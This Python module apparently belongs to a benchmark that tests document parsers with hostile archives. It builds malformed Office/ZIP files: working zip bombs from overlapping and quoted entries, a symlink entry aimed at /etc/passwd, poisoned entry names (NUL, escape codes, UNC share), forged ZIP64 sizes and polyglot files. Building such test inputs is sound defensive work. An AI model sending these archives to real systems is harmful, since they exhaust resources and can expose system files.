"""Archives whose directory lies."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from bench.attacks.attack import attack
from bench.attacks.hulls import office_parts, paragraph, saying, word, word_xml, zipped

_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")


def _patched(data: bytes, part: str, change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    """The archive with its directory written anew after ``change`` was made to one entry."""
    source = zipfile.ZipFile(io.BytesIO(data))
    infos = source.infolist()
    change(source.getinfo(part))
    return data[: source.start_dir] + _directory(infos, source.start_dir)


def _directory(infos: list[zipfile.ZipInfo], start: int) -> bytes:
    rows = b"".join(
        _CENTRAL.pack(
            b"PK\1\2", 20, 20, info.flag_bits, info.compress_type, 0, 33, info.CRC, min(info.compress_size, 2**32 - 1),
            min(info.file_size, 2**32 - 1), len(info.orig_filename.encode()), len(info.extra), 0, 0, 0,
            info.external_attr, min(info.header_offset, 2**32 - 1),
        )
        + info.orig_filename.encode() + info.extra
        for info in infos
    )  # fmt: skip
    return rows + _END.pack(b"PK\5\6", 0, 0, min(len(infos), 65535), min(len(infos), 65535), len(rows), start, 0)


@attack("size-said-small.docx", 1000)
@attack("size-said-2gb.docx", 2_000_000_000)
def lying_size(size: int) -> bytes:
    """The directory gives another size than the part has."""
    return _patched(word(paragraph("x") * 100_000), "word/document.xml", lambda info: setattr(info, "file_size", size))


@attack("method-deflate64.docx", 9)
@attack("method-bzip2.docx", 12)
@attack("method-lzma.docx", 14)
@attack("method-zstandard.docx", 93)
@attack("method-unknown.docx", 77)
def odd_method(method: int) -> bytes:
    """The main part claims to be packed in another way than it is."""
    return _patched(
        word(paragraph("x") * 1000), "word/document.xml", lambda info: setattr(info, "compress_type", method)
    )


@attack("lzma-dictionary-4gb.docx")
def lzma_dictionary() -> bytes:
    """LZMA data that asks for a dictionary of 4 GB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        for name, content in office_parts("docx", word_xml(paragraph("x" * 5000)), {}).items():
            archive.writestr(name, content)
    data = bytearray(buffer.getvalue())
    for info in zipfile.ZipFile(buffer).infolist():
        start = info.header_offset + 30 + len(info.filename)
        data[start + 5 : start + 9] = b"\xff\xff\xff\xff"
    return bytes(data)


@attack("one-part-encrypted.docx")
def one_encrypted() -> bytes:
    """Only the main part is marked as encrypted."""
    return _patched(word(paragraph("x")), "word/document.xml", lambda info: setattr(info, "flag_bits", 1))


@attack("name-with-nul.docx", "word/media/a\0.png")
@attack("name-with-newlines.docx", "word/media/a\r\n\x1b[31m\u202egnp.png")
@attack("name-of-60000.docx", "word/" + "n" * 60_000)
@attack("name-is-a-folder.docx", "word/document.xml/")
@attack("name-is-empty.docx", "")
@attack("name-is-a-share.docx", "\\\\127.0.0.1\\share\\x.xml")
def odd_name(name: str) -> bytes:
    """A part of an odd name beside sound ones."""
    parts = {**office_parts("docx", word_xml(paragraph("x")), {}), "QQQ": b"\x89PNG\r\n\x1a\n"}
    return _patched(zipped(parts), "QQQ", lambda info: setattr(info, "orig_filename", name))


@attack("duplicate-in-other-case.pptx")
def two_cases() -> bytes:
    """Two parts whose names differ in case only."""
    with zipfile.ZipFile(buffer := io.BytesIO(saying("pptx", "one")), "a") as archive:
        archive.writestr("PPT/Slides/Slide1.xml", "<nothing/>")
    return buffer.getvalue()


@attack("symbolic-link.docx")
def symbolic_link() -> bytes:
    """A picture that is a symbolic link to a file of the system."""
    with zipfile.ZipFile(buffer := io.BytesIO(word(paragraph("x"))), "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


@attack("zip64-absurd-size.docx", struct.pack("<HHQ", 1, 8, 2**63 - 1), "file_size")
@attack("zip64-absurd-offset.docx", struct.pack("<HHQ", 1, 8, 2**62), "header_offset")
@attack("zip64-cut-off.docx", struct.pack("<HHL", 1, 8, 1), "file_size")
def absurd_zip64(extra: bytes, field: str) -> bytes:
    """An extra field that moves a number beyond all sense."""

    def change(info: zipfile.ZipInfo) -> None:
        info.extra = extra
        setattr(info, field, 2**32 - 1)

    return _patched(word(paragraph("x")), "word/document.xml", change)


@attack("directory-far-away.docx")
def far_directory() -> bytes:
    """The end says that the directory lies near four gigabytes."""
    data = word(paragraph("x"))
    return data[:-22] + _END.pack(b"PK\5\6", 0, 0, 4, 4, 100, 2**32 - 2, 0)


@attack("million-entries.docx", 1_000_000, quick=False)
@attack("65000-entries.xlsx", 65_000, quick=False)
def many_entries(count: int) -> bytes:
    """A directory of nothing but names."""
    rows = b"".join(
        _CENTRAL.pack(b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 7, 0, 0, 0, 0, 0, 0) + b"%07d" % number
        for number in range(count)
    )
    far = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(rows), 4)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, 4 + len(rows), 1)
    return b"PK\3\4" + rows + far + locator + _END.pack(b"PK\5\6", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)


@attack("overlapping-entries.docx")
def overlapping() -> bytes:
    """Thousand names for the same packed megabytes: 5 KB of kernel pass for gigabytes."""
    parts = office_parts("docx", word_xml(paragraph("x")), {"word/media/k.bin": bytes(5_000_000)})
    data = zipped(parts)
    source = zipfile.ZipFile(io.BytesIO(data))
    kernel = source.getinfo("word/media/k.bin")
    copies = []
    for number in range(1000):
        copy = zipfile.ZipInfo(f"word/media/{number}.bin")
        copy.compress_type, copy.CRC, copy.header_offset = kernel.compress_type, kernel.CRC, kernel.header_offset
        copy.compress_size, copy.file_size = kernel.compress_size, kernel.file_size
        copies.append(copy)
    return data[: source.start_dir] + _directory([*source.infolist(), *copies], source.start_dir)


@attack("quoted-overlap.docx")
def quoted() -> bytes:
    """Each entry quotes the header of the next as stored data, so that all of them unpack the last one's kernel."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(900_000)) + packer.flush()
    blob, size, checked, rows = kernel, 900_000, bytes(900_000), []
    for number in range(60):
        name = f"word/media/{number}.bin".encode()
        check = zlib.crc32(checked)
        header = _LOCAL.pack(b"PK\3\4", 20, 0, 8, 0, 33, check, len(blob), size, len(name), 0) + name
        rows.append((name, check, len(blob), size))
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        blob, size, checked = quote + header + blob, size + len(header), header + checked
    sound = zipped(office_parts("docx", word_xml(paragraph("x")), {}))
    source = zipfile.ZipFile(io.BytesIO(sound))
    start = source.start_dir
    body = sound[:start] + blob
    infos = source.infolist()
    end = len(body)
    for name, check, packed, unpacked in rows:
        info = zipfile.ZipInfo(name.decode())
        info.compress_type, info.CRC, info.compress_size, info.file_size = 8, check, packed, unpacked
        info.header_offset = end - packed - 30 - len(name)
        infos.append(info)
    return body + _directory(infos, len(body))


@attack("pdf-and-docx.docx", b"%PDF-1.7\n%%EOF\n")
@attack("jpeg-and-docx.docx", b"\xff\xd8\xff\xe0\0\x10JFIF\0")
@attack("html-and-docx.html", b"<html><body>text</body></html>\n")
@attack("gif-and-docx.gif", b"GIF89a\1\0\1\0\0\0\0;")
def polyglot(beginning: bytes) -> bytes:
    """A sound archive behind the beginning of another format."""
    return beginning + word(paragraph("x"))


@attack("pdf-in-html.html")
def pdf_in_html() -> bytes:
    """A page that says within its first bytes that it is a PDF."""
    return b"<html><body><pre>%PDF-1.4\n1 0 obj</pre><p>text</p></body></html>"
